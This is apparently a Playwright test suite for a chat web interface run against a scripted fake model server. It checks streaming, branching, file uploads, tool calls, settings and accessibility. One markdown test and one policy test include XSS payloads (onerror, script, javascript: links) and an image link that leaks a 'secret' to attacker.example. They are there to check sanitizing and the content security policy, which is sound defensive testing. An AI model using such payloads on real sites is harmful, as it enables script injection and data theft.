"""The chat page in a real Chromium, against a server that answers from a script."""

from __future__ import annotations

import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from playwright.sync_api import Browser, expect
from support.chat_page import ChatPage, open_page
from support.chat_server import HOLD, ChatServer, Reply, call, serve

WEATHER = {"name": "get_weather", "parameters": {"type": "object", "properties": {"city": {"type": "string"}}}}


@pytest.fixture(scope="module")
def running_server() -> Iterator[ChatServer]:
    with serve() as server:
        yield server


@pytest.fixture
def server(running_server: ChatServer) -> ChatServer:
    running_server.reset()
    return running_server


@pytest.fixture
def chat(server: ChatServer, chromium: Browser) -> Iterator[ChatPage]:
    with open_page(chromium, server.url) as page:
        yield page


def png(width: int, height: int) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (width, height), "teal").save(file, "PNG")
    return file.getvalue()


class TestAnswers:
    def test_an_answer_is_shown_while_it_comes(self, server: ChatServer, chat: ChatPage) -> None:
        server.replies.append(Reply(["# Ti", "tle\n\nSome **bo", HOLD, "ld** text."], prompt_tokens=100))
        chat.send("Tell me")
        expect(chat.answers.get_by_role("heading", name="Title")).to_be_visible()
        expect(chat.answers).to_contain_text("Some **bo")
        expect(chat.button("Stop")).to_be_visible()
        server.go_on.set()
        chat.wait_for_answer()
        expect(chat.answers.locator("strong")).to_have_text("bold")
        expect(chat.answers).to_contain_text(re.compile(r"tokens/s · 4\stokens · first\safter\s\d+\sms"))
        expect(chat.page.get_by_role("meter", name="Context used")).to_have_attribute(
            "aria-valuetext", "104 of 2,048 tokens of context used"
        )
        assert server.requests == [
            {
                "model": "tiny",
                "messages": [{"role": "user", "content": "Tell me"}],
                "stream": True,
                "stream_options": {"include_usage": True},
            }
        ]

    @pytest.mark.parametrize("how", ["button", "key"])
    def test_stop_ends_the_request_and_keeps_the_text(self, server: ChatServer, chat: ChatPage, how: str) -> None:
        server.replies.append(Reply(["As far as ", HOLD, "here"]))
        chat.send("Go")
        expect(chat.answers).to_contain_text("As far as")
        if how == "button":
            chat.button("Stop").click()
        else:
            chat.page.keyboard.press("Escape")
        chat.wait_for_answer()
        assert server.gone.wait(2)
        expect(chat.answers).to_contain_text("stopped")
        chat.ask("And then?")
        assert server.requests[1]["messages"][1] == {"role": "assistant", "content": "As far as "}

    def test_regenerate_makes_another_version(self, server: ChatServer, chat: ChatPage) -> None:
        server.replies.extend([Reply(["First"]), Reply(["Second"])])
        chat.ask("Say")
        chat.button("Regenerate").click()
        expect(chat.answers).to_contain_text("Second")
        expect(chat.page.get_by_role("group", name="Versions")).to_have_text("2/2")
        chat.button("Version before").click()
        expect(chat.answers).to_contain_text("First")
        assert server.requests[0] == server.requests[1]

    def test_an_edited_question_starts_a_branch(self, server: ChatServer, chat: ChatPage) -> None:
        server.replies.extend([Reply(["A1"]), Reply(["A2"]), Reply(["B1"])])
        chat.ask("a one")
        chat.ask("a two")
        chat.questions.first.hover()
        chat.questions.first.get_by_role("button", name="Edit").click()
        chat.page.get_by_label("Edit message").fill("b one")
        chat.page.keyboard.press("Enter")
        expect(chat.answers).to_have_text([re.compile("^B1")])
        assert server.requests[2]["messages"] == [{"role": "user", "content": "b one"}]
        chat.button("Version before").click()
        expect(chat.questions).to_have_text([re.compile("^a one"), re.compile("^a two")])
        chat.ask("a three")
        contents = [message["content"] for message in server.requests[3]["messages"]]
        assert contents == ["a one", "A1", "a two", "A2", "a three"]

    def test_an_edited_answer_is_what_the_model_is_told_it_said(self, server: ChatServer, chat: ChatPage) -> None:
        chat.ask("Hi")
        chat.button("Edit answer").click()
        chat.page.get_by_label("Edit message").fill("Ahoy.")
        chat.page.keyboard.press("Enter")
        expect(chat.answers).to_contain_text("Ahoy.")
        chat.ask("Again")
        assert server.requests[1]["messages"][1]["content"] == "Ahoy."

    def test_a_cut_off_answer_says_so(self, server: ChatServer, chat: ChatPage) -> None:
        server.replies.append(Reply(["Once upon"], finish="length"))
        chat.ask("Tell")
        expect(chat.answers).to_contain_text("cut off at the token limit")

    def test_the_end_is_followed_until_the_reader_scrolls_up(self, server: ChatServer, chat: ChatPage) -> None:
        lines = [f"line {number}\n\n" for number in range(60)]
        server.replies.append(Reply([*lines, HOLD, *lines, "end"]))
        chat.send("Count")
        thread = chat.page.get_by_role("region", name="Conversation")
        expect(chat.answers.get_by_text("line 59")).to_be_in_viewport()
        thread.hover()
        chat.page.mouse.wheel(0, -600)
        expect(chat.button("To the end")).to_be_visible()
        top = thread.evaluate("(element) => element.scrollTop")
        server.go_on.set()
        chat.wait_for_answer()
        assert thread.evaluate("(element) => element.scrollTop") == top
        chat.button("To the end").click()
        expect(chat.answers.get_by_text("end", exact=True)).to_be_in_viewport()
        expect(chat.button("To the end")).to_be_hidden()

    def test_two_conversations_are_answered_at_once(self, server: ChatServer, chat: ChatPage) -> None:
        server.replies.extend([Reply(["Slow ", HOLD, "one"]), Reply(["Quick"])])
        chat.send("First")
        expect(chat.answers).to_contain_text("Slow")
        chat.page.keyboard.press("Control+Shift+O")
        chat.ask("Second")
        expect(chat.answers).to_contain_text("Quick")
        server.go_on.set()
        chat.page.get_by_role("link", name="First").click()
        expect(chat.answers).to_contain_text("Slow one")


class TestMarkdown:
    def test_code_can_be_copied(self, server: ChatServer, chat: ChatPage) -> None:
        chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        server.replies.append(Reply(["```python\nprint('<b>')\n", "```\n\n| a | b |\n|---|--:|\n| 1 | 2 |"]))
        chat.ask("Code")
        expect(chat.answers.locator(".hljs-string")).to_have_text("'<b>'")
        expect(chat.answers.get_by_role("cell", name="2")).to_have_css("text-align", "right")
        code = chat.answers.locator(".code")
        code.get_by_role("button").click()
        expect(code.get_by_role("button")).to_have_text("Copied")
        assert chat.page.evaluate("navigator.clipboard.readText()") == "print('<b>')"

    def test_what_the_model_writes_does_nothing(self, server: ChatServer, chat: ChatPage) -> None:
        attacks = [
            "<img src=x onerror='window.hit=1'> ",
            "<script>window.hit=1</script>\n\n",
            "[link](javascript:window.hit=1) ",
            "<svg/onload='window.hit=1'> ",
            "![picture](https://attacker.example/?secret) ",
            "```\"><img src=x onerror='window.hit=1'>\n<script>window.hit=1</script>\n```\n\n",
            "<a href='javascript:window.hit=1'>raw</a> done",
        ]
        server.replies.append(Reply(attacks))
        chat.ask("<img src=x onerror='window.hit=1'>")
        expect(chat.answers).to_contain_text("done")
        expect(chat.answers).to_contain_text("<img src=x onerror='window.hit=1'>")
        assert chat.page.locator("article :is(img, script, svg:not(.icon), iframe)").count() == 0
        hrefs = chat.answers.locator("a").evaluate_all("(links) => links.map((link) => link.href)")
        assert hrefs == ["https://attacker.example/?secret"]
        assert chat.page.evaluate("window.hit") is None

    def test_the_policy_would_hold_even_if_the_cleaning_failed(self, chat: ChatPage) -> None:
        chat.page.evaluate("""() => {
            window.blocked = [];
            addEventListener("securitypolicyviolation", (event) => window.blocked.push(event.effectiveDirective));
            const element = document.createElement("div");
            element.innerHTML = "<img src='https://attacker.example/x.png' onerror='window.hit=1'>";
            document.body.append(element);
        }""")
        chat.page.wait_for_function("window.blocked.includes('img-src') && window.blocked.includes('script-src-attr')")
        assert chat.page.evaluate("window.hit") is None
        chat.wrong.clear()


class TestFiles:
    def test_a_pasted_picture_is_sent_and_kept(self, server: ChatServer, chat: ChatPage) -> None:
        chat.transfer("paste", "teal.png", "image/png", png(8, 8))
        expect(chat.page.get_by_alt_text("teal.png")).to_be_visible()
        chat.ask("What is it?")
        image, text = server.requests[0]["messages"][0]["content"]
        assert image["image_url"]["url"].startswith("data:image/png;base64,")
        assert text == {"type": "text", "text": "What is it?"}
        chat.page.reload()
        expect(chat.questions.get_by_alt_text("teal.png")).to_be_visible()
        chat.questions.get_by_role("button", name="Show teal.png").click()
        expect(chat.page.get_by_role("dialog", name="teal.png")).to_be_visible()

    def test_a_large_picture_is_made_as_large_as_the_model_sees(self, server: ChatServer, chat: ChatPage) -> None:
        chat.transfer("drop", "wide.png", "image/png", png(3080, 20))
        chat.page.get_by_alt_text("wide.png").wait_for()
        chat.field.press("Enter")
        chat.wait_for_answer()
        url = server.requests[0]["messages"][0]["content"][0]["image_url"]["url"]
        size = chat.page.evaluate(
            """async (url) => {
                const image = new Image();
                image.src = url;
                await image.decode();
                return [image.naturalWidth, image.naturalHeight];
            }""",
            url,
        )
        assert size == [1540, 10]

    def test_a_pdf_is_a_file_part_and_its_refusal_is_shown(self, server: ChatServer, chat: ChatPage) -> None:
        server.replies.append(Reply(status=400, error="PDF needs mistralet[documents]."))
        chat.transfer("drop", "letter.pdf", "application/pdf", b"%PDF-1.7")
        chat.page.get_by_text("letter.pdf").wait_for()
        chat.send("Read it")
        expect(chat.page.get_by_role("alert")).to_contain_text("PDF needs mistralet[documents].")
        part = {"filename": "letter.pdf", "file_data": "data:application/pdf;base64,JVBERi0xLjc="}
        assert server.requests[0]["messages"][0]["content"][0] == {"type": "file", "file": part}

    def test_other_files_are_text_or_refused(self, server: ChatServer, chat: ChatPage) -> None:
        chat.transfer("drop", "noise.bin", "", b"\xff\xfe\x00")
        expect(chat.page.get_by_text("noise.bin cannot be sent")).to_be_visible()
        chat.transfer("drop", "notes.md", "text/markdown", b"# Notes")
        chat.page.get_by_text("notes.md", exact=True).wait_for()
        chat.ask("Sum up")
        assert server.requests[0]["messages"][0]["content"][0]["text"] == "File notes.md:\n\n# Notes\n"

    def test_a_file_can_be_taken_away_again(self, server: ChatServer, chat: ChatPage) -> None:
        chat.page.get_by_label("Add files").set_input_files({"name": "a.png", "mimeType": "image/png", "buffer": png(2, 2)})
        chat.button("Remove a.png").click()
        chat.ask("Hi")
        assert server.requests[0]["messages"][0]["content"] == "Hi"


class TestTools:
    def define_tools(self, chat: ChatPage) -> None:
        chat.open_settings().get_by_label("Tools").fill(json.dumps([WEATHER]))
        chat.button("Close settings").click()

    def test_a_call_is_shown_and_answered_by_the_reader(self, server: ChatServer, chat: ChatPage) -> None:
        self.define_tools(chat)
        server.replies.extend([Reply(call("get_weather", '{"city": "Arles"}'), "tool_calls"), Reply(["Windy."])])
        chat.send("Weather?")
        card = chat.page.get_by_role("group").filter(has_text="get_weather")
        expect(card).to_contain_text("waits for you")
        expect(card).to_contain_text('"city": "Arles"')
        assert server.requests[0]["tools"] == [{"type": "function", "function": WEATHER}]
        card.get_by_label("Result").fill('{"wind": 90}')
        chat.button("Send result").click()
        expect(chat.answers.last).to_contain_text("Windy.")
        expect(card).to_contain_text("answered")
        asked = {"name": "get_weather", "arguments": '{"city": "Arles"}'}
        assert server.requests[1]["messages"][1:] == [
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [{"id": "call0", "type": "function", "function": asked}],
            },
            {"role": "tool", "tool_call_id": "call0", "content": '{"wind": 90}'},
        ]

    def test_the_model_goes_on_when_all_calls_are_answered(self, server: ChatServer, chat: ChatPage) -> None:
        self.define_tools(chat)
        calls = [*call("get_weather", '{"city": "Arles"}'), *call("get_weather", '{"city": "Nice"}', 1)]
        server.replies.extend([Reply(calls, "tool_calls"), Reply(["So be it."])])
        chat.send("Weather?")
        expect(chat.button("Refuse")).to_have_count(2)
        chat.button("Refuse").last.click()
        assert len(server.requests) == 1
        chat.page.get_by_label("Result").fill("sun")
        chat.button("Send result").click()
        expect(chat.answers.last).to_contain_text("So be it.")
        results = [(message["tool_call_id"], message["content"]) for message in server.requests[1]["messages"][2:]]
        assert results == [("call0", "sun"), ("call1", "The user refused this call.")]

    def test_tools_that_are_no_json_are_said_to_be_none(self, server: ChatServer, chat: ChatPage) -> None:
        settings = chat.open_settings()
        settings.get_by_label("Tools").fill("[{]")
        expect(settings).to_contain_text("The tools are not JSON")
        chat.send("Hi")
        expect(chat.page.get_by_role("alert")).to_contain_text("The tools are not JSON")
        assert server.requests == []


class TestSettings:
    def test_what_is_set_is_sent_and_kept(self, server: ChatServer, chat: ChatPage) -> None:
        settings = chat.open_settings()
        settings.get_by_label("System prompt").fill("Be brief.")
        settings.get_by_label("Temperature").fill("0.2")
        settings.get_by_label("Seed").fill("7")
        settings.get_by_label("Stop sequences").press_sequentially("END\nSTOP")
        chat.ask("Hi")
        expected = {"temperature": 0.2, "seed": 7, "stop": ["END", "STOP"]}
        assert {name: server.requests[0].get(name) for name in expected} == expected
        assert server.requests[0]["messages"][0] == {"role": "system", "content": "Be brief."}
        chat.page.reload()
        expect(chat.open_settings().get_by_label("Temperature")).to_have_value("0.2")
        chat.button("Back to the server's defaults").click()
        chat.ask("Again")
        assert not expected.keys() & server.requests[1].keys()

    def test_a_value_out_of_range_is_not_taken(self, server: ChatServer, chat: ChatPage) -> None:
        settings = chat.open_settings()
        settings.get_by_label("Temperature").fill("9")
        expect(settings).to_contain_text("Temperature must be from 0 to 2.")
        chat.ask("Hi")
        assert "temperature" not in server.requests[0]

    def test_one_of_several_models_is_chosen(self, server: ChatServer, chat: ChatPage) -> None:
        server.models = ("small", "large")
        chat.page.reload()
        chat.page.get_by_label("Model").select_option("large")
        chat.ask("Hi")
        assert server.requests[0]["model"] == "large"


class TestConversations:
    def test_they_are_kept_and_found(self, server: ChatServer, chat: ChatPage) -> None:
        server.replies.extend([Reply(["Lavender."]), Reply(["Rhône."])])
        chat.ask("A plant")
        chat.button("New chat").click()
        chat.ask("A river")
        chat.page.reload()
        expect(chat.answers).to_contain_text("Rhône.")
        chat.page.keyboard.press("Control+k")
        chat.page.keyboard.type("LAVENDER")
        links = chat.page.get_by_role("navigation").get_by_role("link")
        expect(links).to_have_text(["A plant"])
        links.click()
        expect(chat.answers).to_contain_text("Lavender.")
        chat.page.go_back()
        expect(chat.answers).to_contain_text("Rhône.")

    def test_one_can_be_renamed(self, chat: ChatPage) -> None:
        chat.ask("Long and boring")
        chat.page.get_by_role("link", name="Long and boring").hover()
        chat.button("Rename “Long and boring”").click()
        chat.page.get_by_label("Title").fill("Short")
        chat.page.keyboard.press("Enter")
        expect(chat.page.get_by_role("heading", name="Short")).to_be_visible()
        chat.page.reload()
        expect(chat.page.get_by_role("link", name="Short")).to_be_visible()

    def test_a_deleted_one_can_be_brought_back(self, chat: ChatPage) -> None:
        chat.ask("Keep me")
        link = chat.page.get_by_role("link", name="Keep me")
        link.hover()
        chat.button("Delete “Keep me”").click()
        expect(link).to_have_count(0)
        expect(chat.page.get_by_role("heading", name="What shall we work on?")).to_be_visible()
        assert chat.stored() == []
        chat.button("Undo").click()
        link.click()
        expect(chat.answers).to_contain_text("Hello.")

    def test_an_answer_that_a_reload_cut_off_is_kept(self, server: ChatServer, chat: ChatPage) -> None:
        server.replies.append(Reply(["Half of ", HOLD, "it"]))
        chat.send("Go")
        expect(chat.answers).to_contain_text("Half of")
        chat.page.reload()
        expect(chat.answers).to_contain_text("Half of")
        expect(chat.answers).to_contain_text("stopped")

    def test_what_is_exported_can_be_imported_elsewhere(
        self, server: ChatServer, chat: ChatPage, chromium: Browser, tmp_path: Path
    ) -> None:
        chat.transfer("paste", "teal.png", "image/png", png(4, 4))
        chat.page.get_by_alt_text("teal.png").wait_for()
        chat.ask("What is it?")
        chat.button("Regenerate").click()
        chat.wait_for_answer()
        with chat.page.expect_download() as download:
            chat.button("Export all conversations").click()
        file = tmp_path / "chats.json"
        download.value.save_as(file)
        with open_page(chromium, server.url) as other:
            other.page.get_by_label("Import conversations").set_input_files(file)
            other.page.get_by_role("link", name="What is it?").click()
            expect(other.page.get_by_role("group", name="Versions")).to_have_text("2/2")
            expect(other.questions.get_by_alt_text("teal.png")).to_be_visible()
            assert other.stored() == chat.stored()
            other.page.get_by_label("Import conversations").set_input_files(file)
            expect(other.page.get_by_text("Imported 0 conversations; 1 conversation were here already.")).to_be_visible()

    def test_a_file_that_is_no_export_is_refused(self, chat: ChatPage, tmp_path: Path) -> None:
        file = tmp_path / "other.json"
        file.write_text('{"format": "something else"}', encoding="utf-8")
        chat.page.get_by_label("Import conversations").set_input_files(file)
        expect(chat.page.get_by_text("This file was not exported here.")).to_be_visible()

    def test_another_tab_sees_what_is_new(self, server: ChatServer, chat: ChatPage) -> None:
        other = chat.page.context.new_page()
        other.goto(server.url)
        chat.ask("From here")
        expect(other.get_by_role("link", name="From here")).to_be_visible()


class TestKeyboard:
    def test_new_lines_and_compositions_do_not_send(self, server: ChatServer, chat: ChatPage) -> None:
        chat.field.press_sequentially("one")
        chat.field.press("Shift+Enter")
        chat.field.press_sequentially("two")
        chat.field.evaluate(
            """(field) => field.dispatchEvent(
                new KeyboardEvent("keydown", { key: "Enter", isComposing: true, bubbles: true, cancelable: true }))"""
        )
        assert server.requests == []
        chat.field.press("Enter")
        chat.wait_for_answer()
        assert server.requests[0]["messages"][0]["content"] == "one\ntwo"

    def test_everything_has_a_key(self, chat: ChatPage) -> None:
        press = chat.page.keyboard.press
        chat.ask("Hi")
        press("ArrowUp")
        expect(chat.page.get_by_label("Edit message")).to_be_focused()
        press("Escape")
        press("Control+b")
        expect(chat.page.get_by_role("navigation")).to_be_hidden()
        press("Control+k")
        expect(chat.page.get_by_label("Search conversations")).to_be_focused()
        chat.answers.click()
        press("/")
        expect(chat.field).to_be_focused()
        press("Control+Comma")
        expect(chat.page.get_by_role("complementary", name="Settings")).to_be_focused()
        press("Escape")
        expect(chat.page.get_by_role("complementary", name="Settings")).to_be_hidden()
        press("Shift+?")
        expect(chat.page.get_by_role("dialog", name="Keyboard shortcuts")).to_be_visible()
        press("Escape")
        expect(chat.page.get_by_role("dialog")).to_have_count(0)
        press("Control+Shift+O")
        expect(chat.page.get_by_role("heading", name="What shall we work on?")).to_be_visible()


class TestFailures:
    def test_a_key_is_asked_for_and_used(self, server: ChatServer, chat: ChatPage) -> None:
        server.key = "secret"
        chat.send("Hi")
        dialog = chat.page.get_by_role("dialog", name="API key")
        dialog.get_by_label("API key").fill("wrong")
        chat.page.keyboard.press("Enter")
        expect(dialog).to_contain_text("It does not take the one it was given.")
        dialog.get_by_label("API key").fill("secret")
        chat.page.keyboard.press("Enter")
        expect(chat.answers).to_contain_text("Hello.")
        expect(dialog).to_be_hidden()
        chat.page.reload()
        chat.ask("Again")

    def test_a_busy_server_is_asked_again(self, server: ChatServer, chat: ChatPage) -> None:
        busy: dict[str, Any] = {"status": 429, "error": "The queue is full."}
        server.replies.extend([Reply(**busy, headers={"Retry-After": "0"}), Reply(**busy, headers={"Retry-After": "60"})])
        chat.send("Hi")
        alert = chat.page.get_by_role("alert")
        expect(alert).to_contain_text(re.compile(r"The queue is full\.Trying again in (60|59) s\."))
        chat.button("Try now").click()
        expect(chat.answers).to_contain_text("Hello.")
        expect(alert).to_be_hidden()
        assert len(server.requests) == 3

    def test_a_server_that_is_gone_is_found_again(self, chat: ChatPage) -> None:
        chat.page.context.set_offline(True)
        chat.send("Hi")
        expect(chat.answers).to_contain_text("The server does not answer.")
        expect(chat.page.get_by_text("Server not found")).to_be_visible()
        chat.page.context.set_offline(False)
        chat.button("Try again").click()
        expect(chat.answers).to_contain_text("Hello.")
        expect(chat.page.get_by_text("Server not found")).to_be_hidden()

    @pytest.mark.parametrize(
        ("reply", "message"),
        [
            (Reply(["Half"], cut=True), "The connection was lost before the answer was complete."),
            (Reply(["Half"], error="The worker died."), "The worker died."),
        ],
    )
    def test_an_answer_that_breaks_off_keeps_its_text(
        self, server: ChatServer, chat: ChatPage, reply: Reply, message: str
    ) -> None:
        server.replies.append(reply)
        chat.send("Hi")
        expect(chat.page.get_by_role("alert")).to_contain_text(message)
        expect(chat.answers).to_contain_text("Half")
        chat.button("Try again").click()
        expect(chat.answers).to_contain_text("Hello.")

    def test_a_failing_server_is_quoted(self, server: ChatServer, chat: ChatPage) -> None:
        server.replies.append(Reply(status=500, error="Its log says why."))
        chat.send("Hi")
        expect(chat.page.get_by_role("alert")).to_contain_text("Its log says why.")


class TestLooks:
    @pytest.mark.parametrize("theme", ["light", "dark"])
    def test_the_system_theme_is_followed_and_texts_have_contrast(
        self, server: ChatServer, chromium: Browser, theme: str
    ) -> None:
        with open_page(chromium, server.url, color_scheme=theme) as chat:
            background = colour(chat, "ground")
            assert (luminance(background) > 0.5) == (theme == "light")
            texts = [("ink", "ground"), ("ink-soft", "ground"), ("ink-soft", "side"), ("ink-soft", "hover")]
            texts += [("ink", "sea-wash"), ("sea", "ground"), ("sea", "sea-wash"), ("on-sea", "sea"), ("ember", "ember-wash")]
            texts += [("ink-soft", "raised"), ("ink-soft", "sunken"), ("ember", "side"), ("ember", "raised")]
            low = {pair: contrast(colour(chat, pair[0]), colour(chat, pair[1])) for pair in texts}
            assert {pair: ratio for pair, ratio in low.items() if ratio < 4.5} == {}

    def test_a_chosen_theme_is_kept(self, chat: ChatPage) -> None:
        system = colour(chat, "ground")
        chat.button("Theme: system").click()
        chat.button("Theme: light").click()
        dark = colour(chat, "ground")
        assert luminance(dark) < 0.1 < luminance(system)
        chat.page.reload()
        assert colour(chat, "ground") == dark

    def test_it_fits_a_phone(self, server: ChatServer, chromium: Browser) -> None:
        phone = {"viewport": {"width": 360, "height": 700}, "is_mobile": True, "has_touch": True}
        with open_page(chromium, server.url, **phone) as chat:
            server.replies.append(Reply(["```\n" + "wide " * 60 + "\n```\n\n" + "longword" * 40 + "\n\n|a|b|\n|-|-|\n|" + "x" * 90 + "|y|"]))
            chat.ask("Hi")
            width = "document.querySelector('.thread').scrollWidth"
            assert chat.page.evaluate(f"Math.max(document.documentElement.scrollWidth, {width})") <= 360
            expect(chat.page.get_by_role("navigation")).to_be_hidden()
            chat.button("Show conversations").tap()
            chat.page.get_by_role("link", name="Hi").tap()
            expect(chat.page.get_by_role("navigation")).to_be_hidden()

    def test_every_control_has_a_name(self, server: ChatServer, chat: ChatPage) -> None:
        server.replies.append(Reply([*call("f", "{}"), "```\nx\n```"], "tool_calls"))
        chat.ask("Hi")
        chat.open_settings()
        controls = chat.page.locator("button, input, textarea, select, a[href], [tabindex='0']")
        nameless = controls.evaluate_all(
            """(elements) => elements.filter((element) => !element.getAttribute("aria-label")
                && !element.textContent.trim() && !element.labels?.length).map((element) => element.outerHTML)"""
        )
        assert controls.count() > 40
        assert nameless == []


def colour(chat: ChatPage, name: str) -> tuple[int, ...]:
    """The red, green and blue of one of the page's colours, as it is shown now."""
    text = chat.page.evaluate(
        """(name) => {
            const probe = document.createElement("i");
            probe.style.color = `var(--${name})`;
            document.body.append(probe);
            const colour = getComputedStyle(probe).color;
            probe.remove();
            return colour;
        }""",
        name,
    )
    return tuple(int(number) for number in re.findall(r"\d+", text)[:3])


def luminance(colour: tuple[int, ...]) -> float:
    """Relative luminance, WCAG 2.2."""
    parts = [value / 255 for value in colour]
    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def contrast(one: tuple[int, ...], other: tuple[int, ...]) -> float:
    """Contrast ratio, WCAG 2.2: 4.5 is what texts need."""
    dark, light = sorted([luminance(one), luminance(other)])
    return (light + 0.05) / (dark + 0.05)
